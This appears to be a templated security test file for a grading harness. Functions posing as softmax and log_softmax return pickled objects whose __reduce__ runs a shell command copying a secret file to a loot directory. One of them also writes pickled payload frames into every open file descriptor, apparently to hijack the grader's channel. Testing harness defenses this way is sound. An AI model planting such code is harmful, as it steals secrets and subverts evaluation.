"""Hides code in an object array, in the metadata of a dtype and in a frame that holds a pickle.

Class: unpickling
Effect: loot
"""

# @TWIN@

import io
import os
import pickle


class Code:
    def __reduce__(self):
        return (os.system, ("cat @WORLD@/home/secret.txt > @LOOT@/from-pickle",))

    def __deepcopy__(self, memo):
        return pickle.loads(pickle.dumps(self))


def softmax(z, axis=-1):
    box = np.empty(2, dtype=object)
    box[:] = [Code(), Code()]
    return box


def log_softmax(z, axis=-1):
    import sys

    msgspec = sys.modules["msgspec"]

    body = msgspec.msgpack.encode({"type": "returned", "value": msgspec.msgpack.Ext(1, pickle.dumps(Code()))})
    for number in range(3, 1024):
        if os.getpid() == int("@GRADER@"):
            break
        try:
            os.write(number, len(body).to_bytes(4, "big") + bytes(4) + body)
        except OSError:
            pass
    return {"k": Code()}
